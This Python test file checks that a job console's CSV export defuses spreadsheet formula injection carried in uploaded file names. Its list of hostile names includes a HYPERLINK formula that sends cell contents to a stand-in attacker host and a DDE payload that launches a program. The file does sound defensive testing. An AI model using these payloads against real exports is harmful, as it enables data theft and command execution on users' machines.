"""Issue 26, finding 8: an exported CSV opened in a spreadsheet must not run what a file name says.

The Jobs table's "Download as CSV" is taken from the real page (AppTest), opened with the csv
module and read back: every cell that a spreadsheet would treat as a formula starts with a quote.
"""

from __future__ import annotations

import csv
import io

from streamlit import config as st_config
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from sluice.ops.exports import safe_cell
from tests.support.apptest import open_console

HOSTILE = [  # names keep no slash (the base name is kept) and no leading blank (stripped)
    '=HYPERLINK("https:attacker.example?leak="&A1,"open me").txt',
    "+cmd|' -C calc'!A0.txt",
    "-2+3.txt",
    "@SUM(A1:A9).txt",
]


def _downloads(monkeypatch) -> list[tuple[bytes, str]]:
    """Every file the console hands to Streamlit's media store, with its type."""
    seen: list[tuple[bytes, str]] = []
    original = MemoryMediaFileStorage.load_and_get_id

    def keep(self, path_or_data, mimetype, kind, filename=None):
        seen.append((bytes(path_or_data) if isinstance(path_or_data, bytes) else b"", mimetype))
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
    return seen


def test_the_jobs_csv_keeps_every_formula_a_file_name_carries_inert(ctx, monkeypatch):
    from sluice.ops.ingest import ingest_bytes

    for i, name in enumerate(HOSTILE):
        assert ingest_bytes(
            ctx, f"text {i}".encode(), dataset="default", filename=name, actor="t"
        ).job_id
    seen = _downloads(monkeypatch)
    at = open_console("jobs")
    assert st_config.get_option("client.disableDataExport") is True  # the toolbar's CSV is off
    assert [b for b in at.get("download_button") if b.proto.label == "Download as CSV"]
    data = [d for d, mime in seen if mime.startswith("text/csv")]
    assert data, "the Jobs page offers no CSV"
    rows = list(csv.DictReader(io.StringIO(data[-1].decode("utf-8-sig"), newline="")))
    files = {row["file"] for row in rows}
    assert files == {"'" + name for name in HOSTILE}, files
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_numbers_stay_numbers():
    assert safe_cell(-3) == "-3" and safe_cell(2.5) == "2.5" and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3" and safe_cell("plain") == "plain"
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1") == "'\r=1"
